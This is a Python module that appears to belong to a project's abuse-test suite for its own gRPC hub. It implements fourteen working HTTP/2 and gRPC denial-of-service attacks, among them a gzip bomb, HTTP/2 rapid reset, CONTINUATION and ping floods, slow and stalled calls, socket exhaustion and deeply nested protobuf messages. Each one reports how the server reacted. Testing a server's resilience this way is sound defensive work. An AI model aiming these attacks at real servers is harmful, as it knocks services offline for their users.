"""What an abuser does below gRPC: one function for each; all return what the hub did about it.

Every attack takes a `Target` and ends by itself. None asserts anything: whoever runs it looks at the hub.
"""

import asyncio
import gzip
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from types import MappingProxyType

from support.abuse import frames
from support.abuse.raw_connection import RawConnection, Target

from vpp.foundation.clock import pause

LIST_EVENTS = "/vpp.v1.EventService/ListEvents"
CONNECT = "/vpp.v1.SessionService/Connect"
BACKFILL = "/vpp.v1.TelemetryService/BackfillReadings"
MEBIBYTE = 1024 * 1024
Attack = Callable[[Target], Awaitable[str]]


async def gzip_bomb(target: Target, unpacked_bytes: int = 256 * MEBIBYTE) -> str:
    """Send a small message that unpacks to a large one."""
    bomb = gzip.compress(bytes(unpacked_bytes), compresslevel=1)
    bomb = gzip.compress(bytes(unpacked_bytes)) if len(bomb) > 3 * MEBIBYTE else bomb
    connection = await RawConnection.open(target)
    connection.call(LIST_EVENTS, ends=False, metadata=(("grpc-encoding", "gzip"),))
    packed = frames.message(bomb, is_packed=True)
    for begin in range(0, len(packed), 16384):
        connection.write(frames.data(1, packed[begin : begin + 16384], ends=begin + 16384 >= len(packed)))
        await connection.flush()
        await pause(0.001)
    answered = await connection.until(10, answers=1)
    await connection.close()
    return f"{len(bomb)} bytes that unpack to {unpacked_bytes}: {_told(connection, answered)}"


async def oversized_message(target: Target, length: int = 2**31 - 1) -> str:
    """Announce a message of two gigabytes and send the beginning of it."""
    connection = await RawConnection.open(target)
    connection.call(LIST_EVENTS, frames.message(bytes(10_000), length=length), ends=False)
    answered = await connection.until(5, answers=1)
    await connection.close()
    return f"{length} bytes announced: {_told(connection, answered)}"


async def oversized_metadata(target: Target, size: int = 512 * 1024) -> str:
    """Send half a megabyte of metadata with a call, in continuation frames."""
    connection = await RawConnection.open(target)
    fields = [(f"x-{number}", "v" * 1000) for number in range(size // 1000)]
    block = frames.header_block(
        [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", LIST_EVENTS),
            (":authority", "localhost"),
            *fields,
        ]
    )
    connection.write(frames.frame(frames.HEADERS, 0, 1, block[:16000]))
    for begin in range(16000, len(block), 16000):
        last = frames.END_HEADERS if begin + 16000 >= len(block) else 0
        connection.write(frames.frame(frames.CONTINUATION, last, 1, block[begin : begin + 16000]))
        await connection.flush()
    answered = await connection.until(5, answers=1)
    await connection.close()
    return f"{size} bytes of metadata: {_told(connection, answered)}"


async def endless_metadata(target: Target, frame_count: int = 5000) -> str:
    """Begin a header block that never ends."""
    connection = await RawConnection.open(target)
    connection.write(frames.frame(frames.HEADERS, 0, 1, frames.header_block([(":method", "POST")])))
    sent = 0
    for _ in range(frame_count):
        if connection.is_over:
            break
        block = frames.header_block([("x", "v" * 1000)])
        connection.write(frames.frame(frames.CONTINUATION, 0, 1, block))
        await connection.flush()
        sent += 1
    over = await connection.until(2)
    await connection.close()
    return f"{sent} continuation frames: {_told(connection, over)}"


async def ping_flood(target: Target, count: int = 20_000) -> str:
    """Ask for answers as fast as it goes."""
    connection = await RawConnection.open(target)
    sent = 0
    while sent < count and not connection.is_over:
        connection.write(b"".join(frames.ping(number) for number in range(100)))
        await connection.flush()
        await pause(0.001)
        sent += 100
    over = await connection.until(2)
    await connection.close()
    return f"{sent} pings: {connection.received[frames.PING]} answered, {_told(connection, over)}"


async def settings_flood(target: Target, count: int = 20_000) -> str:
    """Change settings as fast as it goes; each wants to be acknowledged."""
    connection = await RawConnection.open(target)
    sent = 0
    while sent < count and not connection.is_over:
        connection.write(frames.settings(window=65535) * 100)
        await connection.flush()
        await pause(0.001)
        sent += 100
    over = await connection.until(2)
    await connection.close()
    return f"{sent} settings: {_told(connection, over)}"


async def rapid_reset(target: Target, count: int = 5000) -> str:
    """Begin calls and give each up at once, so that no bound on open calls is reached."""
    connection = await RawConnection.open(target)
    sent = 0
    while sent < count and not connection.is_over:
        for _ in range(20):
            stream = connection.call(LIST_EVENTS, frames.message(b""))
            connection.write(frames.reset(stream))
        await connection.flush()
        await pause(0.0005)
        sent += 20
    over = await connection.until(2)
    await connection.close()
    return f"{sent} calls begun and given up: {_told(connection, over)}"


async def calls_that_never_come(
    target: Target, connections: int = 5, calls: int = 100, held_s: float = 4.0
) -> str:
    """Begin calls and never send their requests, but a few bytes of each."""
    opened = [await RawConnection.open(target) for _ in range(connections)]
    for connection in opened:
        for _ in range(calls):
            connection.call(LIST_EVENTS, frames.message(b"x" * 100, length=MEBIBYTE), ends=False)
        await connection.flush()
    await pause(held_s)
    ended = sum(connection.received[frames.HEADERS] for connection in opened)
    for connection in opened:
        await connection.close()
    return f"{connections * calls} calls without a request: {ended} header frames came within {held_s} s"


async def answers_that_nobody_reads(
    target: Target, connections: int = 5, calls: int = 100, held_s: float = 4.0
) -> str:
    """Ask for everything, and allow not a byte of an answer."""
    opened = [await RawConnection.open(target, window=0) for _ in range(connections)]
    for connection in opened:
        for _ in range(calls):
            connection.call(LIST_EVENTS, frames.message(b""))
        await connection.flush()
    await pause(held_s)
    ended = sum(connection.received[frames.HEADERS] for connection in opened)
    for connection in opened:
        await connection.close()
    return f"{connections * calls} answers that nobody reads: {ended} header frames came within {held_s} s"


async def silent_sockets(target: Target, count: int = 500, held_s: float = 5.0) -> str:
    """Open sockets and say nothing, not even what TLS begins with."""
    opened: list[asyncio.StreamWriter] = []
    readers: list[asyncio.StreamReader] = []
    for _ in range(count):
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(target.host, target.port)
            readers.append(reader)
            opened.append(writer)
    await pause(held_s)
    cut = sum(reader.at_eof() for reader in readers)
    for writer in opened:
        writer.close()
    return f"{len(opened)} silent sockets: {cut} cut within {held_s} s"


async def idle_connections(target: Target, count: int = 200, held_s: float = 3.0) -> str:
    """Shake hands many times and then ask for nothing."""
    opened: list[RawConnection] = []
    refused = 0
    for _ in range(count):
        try:
            opened.append(await RawConnection.open(target))
        except OSError:
            refused += 1
    await pause(held_s)
    cut = sum(connection.is_over for connection in opened)
    for connection in opened:
        await connection.close()
    return f"{len(opened)} idle connections: {refused} refused, {cut} cut within {held_s} s"


async def call_flood(target: Target, seconds: float = 4.0, at_once: int = 100) -> str:
    """Ask as fast as answers come, so many at a time."""
    connection = await RawConnection.open(target)
    loop = asyncio.get_running_loop()
    end, begun = loop.time() + seconds, 0
    while loop.time() < end and not connection.is_over:
        # An answer is one or two header frames; so it never has more than `at_once` open.
        while begun - connection.received[frames.HEADERS] // 2 < at_once:
            connection.call(LIST_EVENTS, frames.message(b""))
            begun += 1
        await connection.flush()
        await pause(0.002)
    await connection.close()
    return f"{begun} calls in {seconds} s: {_told(connection, connection.is_over)}"


async def garbage(target: Target) -> str:
    """Send bytes that are no HTTP/2 at all."""
    reader, writer = await asyncio.open_connection(
        target.host, target.port, ssl=target.context, server_hostname="localhost" if target.context else None
    )
    writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" + bytes(range(256)) * 100)
    with suppress(ConnectionError):
        await writer.drain()
    answer = b""
    with suppress(TimeoutError, ConnectionError):
        async with asyncio.timeout(5):
            while part := await reader.read(65536):
                answer += part
    writer.close()
    return f"no HTTP/2: {len(answer)} bytes came back, {'closed' if reader.at_eof() else 'still open'}"


def nested(depth: int, field: int = 1) -> bytes:
    """Return a message within a message within a message, so many deep; of one field each."""
    content = b""
    for _ in range(depth):
        content = bytes(((field << 3) | 2,)) + _varint(len(content)) + content
    return content


def _varint(value: int) -> bytes:
    parts = []
    while value >= 128:
        parts.append(value % 128 + 128)
        value //= 128
    return bytes((*parts, value))


async def deep_nesting(target: Target, depth: int = 12_000) -> str:
    """Send messages within messages, deeper than any parser's stack; as known and as unknown fields."""
    connection = await RawConnection.open(target)
    methods = ("/vpp.v1.AuctionService/CreateAuction", "/vpp.v1.AuctionService/CreateBid", LIST_EVENTS)
    for method in methods:
        for field in (1, 2, 15):
            connection.call(method, frames.message(nested(depth, field)))
            await connection.flush()
    groups = b"\x7b" * depth  # group within group, never closed
    connection.call(LIST_EVENTS, frames.message(groups))
    answered = await connection.until(5, answers=10)
    await connection.close()
    return f"{depth} messages within each other: {_told(connection, answered)}"


def _told(connection: RawConnection, answered: object) -> str:
    if connection.received[frames.GOAWAY]:
        return "the connection was cut with a reason"
    if connection.is_over:
        return "the connection was cut"
    return f"{connection.received[frames.HEADERS]} header frames came" if answered else "nothing came"


ATTACKS: Mapping[str, Attack] = MappingProxyType(
    {
        attack.__name__.replace("_", " "): attack  # type: ignore[dict-item]  # defaults aside, each takes a target
        for attack in (
            gzip_bomb,
            oversized_message,
            oversized_metadata,
            endless_metadata,
            ping_flood,
            settings_flood,
            rapid_reset,
            calls_that_never_come,
            answers_that_nobody_reads,
            silent_sockets,
            idle_connections,
            call_flood,
            deep_nesting,
            garbage,
        )
    }
)
